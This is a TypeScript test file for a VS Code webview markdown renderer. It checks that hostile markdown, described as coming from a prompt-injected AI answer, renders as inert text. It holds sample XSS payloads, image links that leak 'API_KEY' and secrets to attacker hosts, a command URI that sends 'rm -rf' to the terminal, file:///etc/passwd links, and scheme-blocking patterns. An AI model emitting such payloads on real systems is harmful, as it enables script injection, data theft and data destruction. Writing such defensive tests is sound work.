import * as assert from 'node:assert/strict';
import { idleQueueOf } from '../../../src/webview/codeBlock';
import { StreamingMarkdown } from '../../../src/webview/streamingMarkdown';
import { newWindow, randomChunks, seeded } from './jsdomEnv';

const doc = newWindow().document;

/** What a prompt-injected answer may try. None of it may become live markup. */
const HOSTILE: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'inline <img src=x onerror="alert(1)"> in a paragraph',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](jav&#x61;script:alert(1))',
  '[x]( javascript:alert(1) )',
  '<javascript:alert(1)>',
  '![](https://attacker/?q=secret)',
  '![diagram](https://attacker.example/leak.png?data=API_KEY "title")',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '<iframe src="https://attacker.example"></iframe>',
  '<a href="command:workbench.action.terminal.new">open</a>',
  '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%22%7D)',
  '<command:workbench.action.reloadWindow>',
  '[settings](vscode://settings/security)',
  '[passwd](file:///etc/passwd)',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<object data="x"></object><embed src="x"><form action="https://a"><input name=q></form>',
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0" onclick="alert(1)">cover</div>',
  '<svg onload=alert(1)><circle r=5 /></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '- [x](command:evil)\n- ![](https://attacker/?q=1)\n  > <script>alert(1)</script>',
  '<a href="https://ok.example" onclick="alert(1)" style="color:red">styled</a>',
  '[ok](https://ok.example "t\\" onmouseover=\\"alert(1)")',
];

const FORBIDDEN_TAGS = ['script', 'img', 'iframe', 'object', 'embed', 'form', 'input', 'style', 'svg', 'math', 'link', 'meta', 'base', 'video', 'audio', 'source'];
const BAD_SCHEME = /^\s*(javascript|command|vscode|file|data|vbscript):/i;

function assertInert(root: Element, label: string): void {
  for (const tag of FORBIDDEN_TAGS) {
    // the panel's own icons (code block toolbar) are the only SVG allowed
    const found = Array.from(root.querySelectorAll(tag)).filter((el) => !(tag === 'svg' && el.closest('.code-toolbar') && el.getAttribute('aria-hidden') === 'true'));
    assert.equal(found.length, 0, `${label}: <${tag}> rendered`);
  }
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      assert.ok(!/^on/i.test(attr.name), `${label}: ${attr.name} attribute on <${el.tagName}>`);
      assert.notEqual(attr.name, 'style', `${label}: style attribute on <${el.tagName}>`);
      assert.notEqual(attr.name, 'src', `${label}: src attribute on <${el.tagName}>`);
      if (attr.name === 'href' || attr.name === 'xlink:href' || attr.name === 'action' || attr.name === 'formaction') {
        assert.ok(!BAD_SCHEME.test(attr.value), `${label}: ${attr.name}="${attr.value}"`);
        assert.match(attr.value, /^https?:\/\//i, `${label}: only web links may stay links`);
      }
    }
  }
}

describe('hostile markdown', function () {
  // jsdom is slow and the test machines are shared: a generous limit (no timing is asserted)
  this.timeout(60_000);

  for (const input of HOSTILE) {
    it(`renders inert: ${JSON.stringify(input).slice(0, 70)}`, () => {
      const once = StreamingMarkdown.render(doc, input).element;
      assertInert(once, 'one-go');
      const rnd = seeded(input.length);
      const r = new StreamingMarkdown(doc);
      for (const c of randomChunks(input, rnd, 4)) {
        r.append(c);
        r.flush();
        assertInert(r.element, 'while streaming');
      }
      r.finish();
      assertInert(r.element, 'streamed');
      idleQueueOf(doc)!.drain(); // blocks closed while streaming are coloured on idle time
      assertInert(r.element, 'streamed and coloured');
      assert.equal(r.element.innerHTML, once.innerHTML);
    });
  }

  it('shows a markdown image as link text instead of loading it', () => {
    const el = StreamingMarkdown.render(doc, 'see ![chart](https://attacker/?q=secret) here').element;
    const link = el.querySelector('a.md-image-link');
    assert.ok(link, 'image became a link-like element');
    assert.equal(link.getAttribute('href'), 'https://attacker/?q=secret');
    assert.equal(link.textContent, '🖼 chart (https://attacker/?q=secret)');
  });

  it('keeps the text of links it refuses, without a link', () => {
    const el = StreamingMarkdown.render(doc, '[open terminal](command:workbench.action.terminal.new) and [home](https://example.com)').element;
    const anchors = Array.from(el.querySelectorAll('a'));
    assert.deepEqual(anchors.map((a) => a.getAttribute('href')), ['https://example.com']);
    assert.match(el.textContent ?? '', /open terminal/);
    assert.ok(el.querySelector('span.md-link-disabled'));
  });

  it('renders raw HTML as visible text', () => {
    const el = StreamingMarkdown.render(doc, 'a <b>bold</b> <script>alert(1)</script> tag').element;
    assert.equal(el.querySelector('b'), null);
    assert.match(el.textContent ?? '', /<b>bold<\/b> <script>alert\(1\)<\/script>/);
  });
});
